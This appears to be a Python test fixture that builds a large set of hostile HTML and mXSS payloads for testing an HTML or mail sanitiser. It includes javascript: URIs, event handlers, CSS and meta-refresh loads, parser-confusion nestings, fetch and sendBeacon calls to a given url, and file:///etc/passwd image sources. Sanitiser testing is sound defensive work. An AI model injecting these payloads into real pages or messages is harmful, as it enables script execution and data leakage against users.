"""Hostile HTML, made from what public lists of XSS and mXSS have in common: what a cleaner must not let pass.

`vectors(url)` are mails, each with `url` wherever something might be loaded or sent; a script that runs sets
`window.top.hacked` or loads from `url`.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

# Tags that load by an attribute of theirs.
_LOADING = {
    "img": ["src", "srcset", "lowsrc", "dynsrc", "longdesc"],
    "image": ["src", "xlink:href"],
    "iframe": ["src", "srcdoc"],
    "frame": ["src"],
    "embed": ["src"],
    "object": ["data", "codebase"],
    "applet": ["code", "archive"],
    "video": ["src", "poster"],
    "audio": ["src"],
    "source": ["src", "srcset"],
    "track": ["src"],
    "input": ["src", "formaction"],
    "button": ["formaction"],
    "form": ["action"],
    "script": ["src"],
    "link": ["href"],
    "base": ["href"],
    "body": ["background"],
    "table": ["background"],
    "td": ["background"],
    "bgsound": ["src"],
    "a": ["href", "ping", "xlink:href"],
    "area": ["href"],
    "q": ["cite"],
    "blockquote": ["cite"],
    "html": ["manifest"],
    "portal": ["src"],
    "menuitem": ["icon"],
    "isindex": ["action"],
}
_WRITTEN = [
    "{url}",
    "//{host}",
    "\\\\{host}",
    "ht\ttp://{host}",
    " \x01{url}",
    "&#104;ttp://{host}",
    "javascript:top.hacked=1",
    "JaVa\nScript:top.hacked=1",
    "java&#x09;script:top.hacked=1",
    "data:text/html,<script>top.hacked=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'/>",
    "vbscript:top.hacked=1",
]
_HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerover",
    "onbegin",
]
_HANDLED = [
    "img src=x",
    "body",
    "svg",
    "details open",
    "input autofocus",
    "video",
    "a href=#",
    "p style=color:red",
]
_SPELLED = [
    "<{tag} {on}={js}>",
    "<{tag}/{on}='{js}'>",
    '<{tag}\x0c{on}\x0c="{js}">',
    "<{tag} x='>' {ON}={js} //",
]
_STYLES = [
    "background:url({url})",
    "background:URL( '{url}' )",
    "background:u\\72l({url})",
    "background:\\75\\72\\6c({url})",
    "background:url/**/({url})",
    "background-color:red;background-image:url({url})",
    "background-image:image-set('{url}' 1x)",
    "background-image:-webkit-image-set(url({url}) 1x)",
    "background-image:cross-fade(url({url}),url({url}),50%)",
    "list-style:url({url})",
    "list-style-image:url({url})",
    "cursor:url({url}),auto",
    "content:url({url})",
    "border-image:url({url}) 30",
    "border-image-source:url({url})",
    "mask:url({url})",
    "-webkit-mask-image:url({url})",
    "filter:url({url}#f)",
    "clip-path:url({url}#c)",
    "shape-outside:url({url})",
    "offset-path:url({url})",
    "--x:url({url});background:var(--x)",
    "color:red;}*{background:url({url})",
    "width:expression(top.hacked=1)",
    "behavior:url({url})",
    "-moz-binding:url({url}#x)",
    "font-family:'x';src:url({url})",
    "color:red;/*;*/background:url({url})",
    "color:red\\;background:url({url})",
    'color:"\n;background:url({url})',
    "font:12px 'a;background:url({url})",
]
_SHEETS = [
    "@import '{url}';",
    "@import url({url});",
    "@import/**/url({url});",
    "@\\69mport '{url}';",
    "@font-face{font-family:x;src:url({url})}body{font-family:x}",
    "*{background:url({url})}",
    "body::before{content:url({url})}",
    "input[value^=a]{background:url({url})}",
    "@namespace url({url});",
    "@media all{*{background:url({url})}}",
    "@supports(color:red){*{background:url({url})}}",
    "@layer x{*{background:url({url})}}",
    "</style><img src={url}>",
    "<!--</style><img src={url}>-->",
]
_REFRESHES = [
    "0;url={url}",
    "0;{url}",
    "0; URL='{url}'",
    "0,{url}",
    "0;url=javascript:top.hacked=1",
    "0;url=data:text/html,x",
]
# What a parser makes of these differs from what their writer seems to say; the payload stands in <P>.
_NESTINGS = [
    "<math><mtext><table><mglyph><style><!--</style><P>",
    '<svg></p><style><a id="</style><P>">',
    '<noscript><p title="</noscript><P>">',
    "<form><math><mtext></form><form><mglyph><style></math><P>",
    '<math><mi//xlink:href="data:x,<P>">',
    "<svg><style>&lt;P&gt;</style></svg>",
    "<svg><![CDATA[><P>]]></svg>",
    "<svg><title><style><P></style></title></svg>",
    "<svg><desc><P></desc></svg>",
    "<svg><foreignObject><P></foreignObject></svg>",
    '<math><annotation-xml encoding="text/html"><P></annotation-xml></math>',
    "<template><P></template>",
    "<template><template><P></template>",
    '<xmp><p title="</xmp><P>">',
    '<noembed><p title="</noembed><P>">',
    '<noframes><p title="</noframes><P>">',
    '<iframe><p title="</iframe><P>"></iframe>',
    '<textarea><p title="</textarea><P>">',
    '<title><p title="</title><P>">',
    '<style><p title="</style><P>">',
    "<plaintext><P>",
    "<select><option><P></select>",
    "<select><template><P></template></select>",
    "<select><style></select><P></style>",
    "<table><tr><P></table>",
    "<table><colgroup><P></table>",
    "<table><caption><svg><P></table>",
    "<a><table><td><a><P>",
    "<b><p><b><P></p></b>",
    "<frameset><frame src=x><P></frameset>",
    "<!--><P>-->",
    "<!---><P>-->",
    "<!-- --!><P>-->",
    "<!--[if gte IE 4]><P><![endif]-->",
    "<![if true]><P><![endif]>",
    '<!DOCTYPE x [<!ENTITY y "<P>">]>&y;',
    '<?xml version="1.0"?><?x <P> ?>',
    "</ <P>",
    "<%<P>%>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">top.hacked=1</x:script><P>',
    "<p title='<P>'>",
    '<p title="`<P>">',
    "<p title=`<P>`>",
    "<p/title=<P>>",
    "\x00<\x00P>",
    "<div><div><div></p></li></td><P>",
    "<ruby><rt><rtc><P></ruby>",
    "<dialog open><P></dialog>",
    "<slot><P></slot>",
    '<object><param name=x value="<P>"></object>',
    "<marquee><P></marquee>",
    "<keygen><P>",
    "<listing><P></listing>",
]
_PAYLOADS = [
    "<img src='{url}'>",
    "<script>top.hacked=1;new Image().src='{url}'</script>",
    "<svg onload=top.hacked=1>",
]
_ODD = [
    "+ADw-script+AD4-top.hacked=1+ADw-/script+AD4-",
    "&lt;script&gt;top.hacked=1&lt;/script&gt;",
    "%3Cscript%3Etop.hacked=1%3C/script%3E",
    "<scr<script>ipt>top.hacked=1</scr</script>ipt>",
    "<<script>top.hacked=1//<</script>",
    "<script\x00>top.hacked=1</script>",
    "<\x00script>top.hacked=1</script>",
    "<script/xss src='{url}'></script>",
    "<SCRIPT SRC={url}",
    "<img src='{url}'",
    '<img """><script>top.hacked=1</script>">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=`{url}`>",
    "<img/src={url}/onerror=top.hacked=1>",
    '<img src="x" srcset="{url} 1x, {url} 2x" sizes=1px>',
    "<picture><source srcset={url}><img></picture>",
    "<svg><image href='{url}'/></svg>",
    "<svg><image xlink:href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><feImage href='{url}'/></svg>",
    "<svg><script href='{url}'/></svg>",
    "<svg><script>top.hacked=1</script></svg>",
    "<svg><a href='{url}'><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=top.hacked=1 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:top.hacked=1>",
    "<svg><style>@import '{url}';</style></svg>",
    "<math href=javascript:top.hacked=1>x</math>",
    "<math><maction actiontype=statusline#{url} xlink:href={url}>x</maction></math>",
    "<object data='{url}'><img src='{url}'></object>",
    "<object type=text/html data='data:text/html,<script>top.hacked=1</script>'></object>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'><link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=modulepreload href='{url}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{url}'>",
    "<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on>",
    "<base href='{url}'><img src=x><a href=y>z</a>",
    "<base target=_top><a href='{url}'>click</a>",
    "<form action='{url}'><button>go</button><input type=submit></form>",
    "<form id=f action='{url}'></form><button form=f>go</button>",
    "<button formaction='{url}' form=f>go</button>",
    "<isindex prompt=x action='{url}'>",
    "<a href='{url}' target=_top>click</a>",
    "<a href='{url}' ping='{url}' download>click</a>",
    "<a href=javascript:top.hacked=1>click</a>",
    "<map name=m><area shape=default href='{url}'></map><img usemap=#m src=x>",
    "<a href='{url}'><img ismap src='{url}'></a>",
    "<button commandlinker-command=x data-commandlinker-command='notebook:run-cell'>go</button>",
    "<div data-jp-suppress-context-menu data-commandlinker-args='{}' id=jp-main-dock-panel>x</div>",
    "<div id=document name=cookie><form name=body><input name=innerHTML></form></div>",
    '<p style="position:fixed;inset:0;z-index:9999">covers</p>',
    "<p contenteditable autofocus accesskey=x tabindex=1 onfocus=top.hacked=1>x</p>",
    "<p is=x slot=y part=z itemscope itemtype='{url}'>x</p>",
    "<input type=image src='{url}'><input onfocus=top.hacked=1 autofocus>",
    "<video autoplay src='{url}'><source src='{url}'><track src='{url}' default></video>",
    "<audio autoplay><source src='{url}'></audio>",
    "<embed src='{url}' type=application/pdf>",
    "<script type=module>import '{url}'</script>",
    '<script type=importmap>{"imports":{"x":"{url}"}}</script>',
    "<script>fetch('{url}')</script>",
    "<script>navigator.sendBeacon('{url}');top.location='{url}'</script>",
    "<body background='{url}' onload=top.hacked=1 onhashchange=top.hacked=1>",
    "<table background='{url}'><tr><td background='{url}'>x</table>",
    "<iframe srcdoc=\"<img src='{url}'><script>top.hacked=1</script>\"></iframe>",
    "<iframe src='{url}' sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>",
    "<fencedframe src='{url}'></fencedframe>",
    "<portal src='{url}'></portal>",
    "<img src=cid:../../etc/passwd><img src=CID:x><img src='mid:x'><img src='file:///etc/passwd'>",
    "<img src=' data:image/svg+xml;base64,{svg}'><img src='DATA:image/svg+xml;base64,{svg}'>",
    "<img src='data:image/png;base64,{svg}'><img src='data:image/png,{url}'>",
]


def vectors(url: str) -> list[str]:
    """Every mail, in an order that stays."""
    picture = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>"
    svg = base64.b64encode(picture.encode()).decode()
    host = url.partition("//")[2]
    return [
        made.replace("{url}", url).replace("{host}", host).replace("{svg}", svg)
        for made in dict.fromkeys(_made())
    ]


def _made() -> Iterator[str]:
    for (tag, attributes), written in product(_LOADING.items(), _WRITTEN):
        for attribute in attributes:
            yield f'<{tag} {attribute}="{written}">x</{tag}>'
    for tag, on, spelled in product(_HANDLED, _HANDLERS, _SPELLED):
        yield spelled.format(tag=tag, on=on, ON=on.upper(), js="top.hacked=1")
    for style in _STYLES:
        quote = "'" if '"' in style else '"'
        yield f"<p style={quote}{style}{quote}>x</p>"
        yield f"<style>p{{{style}}}</style><p>x</p>"
    for sheet in _SHEETS:
        yield f"<style>{sheet}</style><p>x</p>"
        yield f"<svg><style>{sheet}</style></svg>"
    for refresh in _REFRESHES:
        yield f'<meta http-equiv="refresh" content="{refresh}">'
        yield f"<p>x</p></body><META/HTTP-EQUIV='REFRESH'/CONTENT=\"{refresh}\">"
    for nesting, payload in product(_NESTINGS, _PAYLOADS):
        yield nesting.replace("<P>", payload)
    yield from _ODD
